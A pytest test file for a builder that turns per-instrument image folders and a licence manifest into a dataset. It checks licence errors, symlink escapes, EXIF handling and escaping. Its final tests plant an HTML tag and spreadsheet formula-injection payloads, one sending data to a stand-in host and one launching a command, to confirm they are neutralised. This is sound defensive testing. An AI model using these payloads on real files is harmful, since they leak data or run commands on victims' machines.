"""The Symphony-Bias image set from a folder per instrument plus a licence manifest."""

from __future__ import annotations

import csv
import hashlib
import json
import re
import shutil
from pathlib import Path

import pytest
from PIL import Image
from support.harness import executable, run_cli
from support.pictograms import pictogram

from symphony_bench.hub_upload.symphony_bias_image import MIN_IMAGES, build
from symphony_bench.plugin.core.errors import DataFileError
from symphony_bench.plugin.core.hub_folder import load_hub_dataset
from symphony_bench.plugin.core.vocabulary import load_instruments
from symphony_bench.plugin.symphony_bias import multimodal
from symphony_bench.plugin.symphony_bias.docs import Design
from symphony_bench.plugin.symphony_bias.stimulus_ids import stimulus_id_of


@pytest.fixture
def source(tmp_path) -> Path:
    folder = tmp_path / "photos"
    rows = []
    for instrument in load_instruments():
        (folder / instrument.name).mkdir(parents=True)
        for k in range(MIN_IMAGES):
            name = f"{instrument.name}/{k}.{'png' if k % 2 else 'jpg'}"
            pictogram(instrument.name, k).save(folder / name)
            rows.append({"file": name, "licence": "CC0-1.0", "source": f"generated pictogram {k}"})
    with open(folder / "manifest.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=["file", "licence", "source"])
        writer.writeheader()
        writer.writerows(rows)
    return folder


def test_builds_a_loadable_hub_folder_with_licences(source, tmp_path):
    out = build(source, tmp_path / "out")
    dataset = load_hub_dataset(out)
    assert len(dataset) == 22 * MIN_IMAGES
    row = dataset[0]
    assert row["licence"] == "CC0-1.0" and row["source"].startswith("generated pictogram")
    assert isinstance(row["image"], Image.Image) and row["image"].size == (64, 64)
    card = (out / "README.md").read_text()
    assert card.count("| CC0-1.0 | generated pictogram") == 22 * MIN_IMAGES


def test_missing_or_short_instruments_are_listed_in_one_error(source, tmp_path):
    shutil.rmtree(source / "harp")
    (source / "tuba" / "0.jpg").unlink()
    with pytest.raises(DataFileError) as error:
        build(source, tmp_path / "out")
    assert "harp (0)" in str(error.value) and "tuba (5)" in str(error.value)
    assert not (tmp_path / "out").exists()


def test_an_image_without_licence_is_named(source, tmp_path):
    manifest = (source / "manifest.csv").read_text().replace("cello/3.png,CC0-1.0", "cello/3.png,")
    (source / "manifest.csv").write_text(manifest)
    with pytest.raises(DataFileError, match="cello/3.png"):
        build(source, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_corrupt_image_is_named_and_nothing_is_written(source, tmp_path):
    (source / "violin" / "2.jpg").write_bytes(b"not a jpeg")
    with pytest.raises(DataFileError, match="violin/2.jpg"):
        build(source, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out")]


@pytest.mark.e2e
def test_cli_error_is_one_line(source, tmp_path):
    shutil.rmtree(source / "drums")
    completed = run_cli(
        [
            executable("symphony-bench"),
            "build",
            "symphony-bias-image",
            "--source",
            str(source),
            "--out",
            str(tmp_path / "o"),
        ],
        cwd=tmp_path,
    )
    assert completed.returncode == 2
    assert completed.stderr.strip().count("\n") == 0 and "drums (0)" in completed.stderr


def _add_to_manifest(source: Path, *files: str) -> None:
    with open(source / "manifest.csv", "a", newline="") as handle:
        handle.writelines(f"{name},CC0-1.0,generated\n" for name in files)


def _rotated_portrait(path: Path) -> None:
    """Stored 40 wide and 20 high; EXIF orientation 6 says: turn a quarter clockwise to display."""
    exif = Image.Exif()
    exif[0x0112] = 6
    Image.new("RGB", (40, 20), "white").save(path, exif=exif)


def _cut_out(path: Path) -> None:
    """A PNG whose left half is transparent over black, as cut-out product photos often are."""
    image = Image.new("RGBA", (20, 20), (200, 30, 30, 255))
    image.paste((0, 0, 0, 0), (0, 0, 10, 20))
    image.save(path)


def test_same_stem_different_suffix_gets_distinct_ids_and_exif_orientation_is_kept_and_applied(
    source, tmp_path
):
    _rotated_portrait(source / "harp" / "0.jpg")
    pictogram("harp", 1).save(source / "harp" / "0.png")
    _add_to_manifest(source, "harp/0.png")
    rows = load_hub_dataset(build(source, tmp_path / "out"))
    assert len(set(rows["image_id"])) == len(rows) == 22 * MIN_IMAGES + 1
    harp = {r["image_id"]: r for r in rows if r["instrument"] == "harp"}
    assert harp["harp/0.jpg"]["image"].size == (20, 40)
    assert (
        harp["harp/0.jpg"]["stored_as"] == "original"
        and harp["harp/0.jpg"]["exif_orientation"] == 6
    )


def test_images_keep_their_bytes_and_the_source_hash(source, tmp_path):
    import datasets

    rows = load_hub_dataset(build(source, tmp_path / "out")).cast_column(
        "image", datasets.Image(decode=False)
    )
    for row in rows:
        original = (source / row["instrument"] / Path(row["image_id"]).name).read_bytes()
        assert row["image"]["bytes"] == original and row["stored_as"] == "original"
        assert row["sha256"] == row["source_sha256"] == hashlib.sha256(original).hexdigest()
        assert row["image"]["path"] == row["image_id"].replace("/", "__")


def test_the_multimodal_task_shows_rotated_and_cut_out_images_upright_on_white(
    source, tmp_path, monkeypatch
):
    _rotated_portrait(source / "harp" / "0.jpg")
    _cut_out(source / "harp" / "1.png")
    out = build(source, tmp_path / "out")
    monkeypatch.setenv("SYMPHONY_IMAGE", str(out))
    docs = {
        stimulus_id_of(doc): doc
        for doc in multimodal.condition_docs(
            Design(modality="image", condition="stimulus", subset="mini")
        )
    }
    [rotated] = multimodal.image_visual(docs["harp/0.jpg"])
    [cut_out] = multimodal.image_visual(docs["harp/1.png"])
    assert rotated.mode == cut_out.mode == "RGB" and rotated.size == (20, 40)
    assert cut_out.getpixel((2, 10)) == (255, 255, 255) and cut_out.getpixel((15, 10)) == (
        200,
        30,
        30,
    )
    card = (out / "README.md").read_text()
    assert (
        "| harp/1.png | harp | CC0-1.0 | generated pictogram 1 | png: transparency flattened onto white |"
        in card
    )


def test_the_summary_lists_no_missing_instrument_and_every_ignored_file(source, tmp_path):
    (source / "harp" / "notes.txt").write_text("ask for the licence of 3.jpg")
    (source / "Violins").mkdir()
    pictogram("violin", 7).save(source / "Violins" / "7.jpg")
    out = build(source, tmp_path / "out")
    summary = json.loads((out / "stimulus_set.json").read_text())
    assert summary["missing_instruments"] == [] and summary["name_mappings"] == []
    assert summary["stimuli_per_instrument"] == {i.name: MIN_IMAGES for i in load_instruments()}
    assert summary["ignored_files"] == ["Violins/7.jpg", "harp/notes.txt"]
    assert "Files ignored: Violins/7.jpg, harp/notes.txt." in (out / "README.md").read_text()


def test_an_image_linking_outside_the_source_is_refused_and_named(source, tmp_path):
    secret = tmp_path / "elsewhere" / "private.png"
    secret.parent.mkdir()
    pictogram("harp", 9).save(secret)
    (source / "harp" / "0.jpg").unlink()
    (source / "harp" / "0.jpg").symlink_to(secret)
    with pytest.raises(
        DataFileError,
        match=re.escape(
            f"{source}: links to files outside this folder (copy them in instead): harp/0.jpg -> {secret}"
        ),
    ):
        build(source, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_an_instrument_folder_linking_outside_the_source_is_refused(source, tmp_path):
    shutil.move(source / "tuba", tmp_path / "tuba-elsewhere")
    (source / "tuba").symlink_to(tmp_path / "tuba-elsewhere")
    with pytest.raises(DataFileError, match=r"outside this folder .*tuba/0\.jpg"):
        build(source, tmp_path / "out")


def test_a_link_within_the_source_is_fine(source, tmp_path):
    (source / "harp" / "0.jpg").unlink()
    (source / "harp" / "0.jpg").symlink_to(source / "harp" / "2.jpg")
    assert len(load_hub_dataset(build(source, tmp_path / "out"))) == 22 * MIN_IMAGES


@pytest.mark.parametrize("out", ["photos", "photos/violin", "."])
def test_an_output_overlapping_the_source_is_refused_and_the_source_kept(source, tmp_path, out):
    before = {p: p.read_bytes() for p in source.rglob("*") if p.is_file()}
    with pytest.raises(DataFileError, match="refusing to write there"):
        build(source, tmp_path / out)
    assert {p: p.read_bytes() for p in source.rglob("*") if p.is_file()} == before


def test_an_image_set_is_not_replaced_by_another_builder(source, tmp_path):
    from symphony_bench.hub_upload.symphony_bias_audio import build as build_audio

    image_set = build(source, tmp_path / "images")
    with pytest.raises(DataFileError, match="holds a 'symphony-bias-image' output"):
        build_audio(image_set, clips_per_instrument=1)
    assert len(load_hub_dataset(image_set)) == 22 * MIN_IMAGES
    assert (
        len(load_hub_dataset(build(source, image_set))) == 22 * MIN_IMAGES
    )  # its own builder may rebuild it


def test_licences_and_sources_are_escaped_in_the_card_and_kept_in_the_rows(source, tmp_path):
    """A licence or source text holding a table bar, a line break or HTML stays in its cell."""
    with open(source / "manifest.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    rows[0]["licence"] = "CC BY | see <img src=x>"
    rows[0]["source"] = "two\nlines"
    with open(source / "manifest.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=["file", "licence", "source"])
        writer.writeheader()
        writer.writerows(rows)
    out = build(source, tmp_path / "out")
    card = (out / "README.md").read_text()
    assert "<img" not in card and "CC BY | see" not in card and "two\nlines" not in card
    table = [line for line in card.splitlines() if line.startswith("| ")]
    assert {line.count(" | ") for line in table} == {4}  # five cells on every row
    kept = load_hub_dataset(out)
    assert "CC BY | see <img src=x>" in kept["licence"] and "two\nlines" in kept["source"]


def test_a_licence_written_as_a_formula_is_text_in_the_rows_and_the_card(source, tmp_path):
    """A spreadsheet opening the rows or the card's table never runs `=HYPERLINK(...)`."""
    formula = '=HYPERLINK("http://x.example/?"&A1,"CC0")'
    with open(source / "manifest.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    rows[0]["licence"], rows[1]["source"] = formula, "+cmd|' /C calc'!A0"
    with open(source / "manifest.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=["file", "licence", "source"])
        writer.writeheader()
        writer.writerows(rows)
    out = build(source, tmp_path / "out")
    kept = load_hub_dataset(out)
    cells = [*kept["licence"], *kept["source"]]
    assert "'" + formula in cells and not any(cell.startswith(("=", "+")) for cell in cells)
    card_cells = [
        cell.strip()
        for line in (out / "README.md").read_text().splitlines()
        if line.startswith("| ")
        for cell in line.strip("|").split(" | ")
    ]
    assert not any(cell.startswith(("=", "+")) for cell in card_cells)
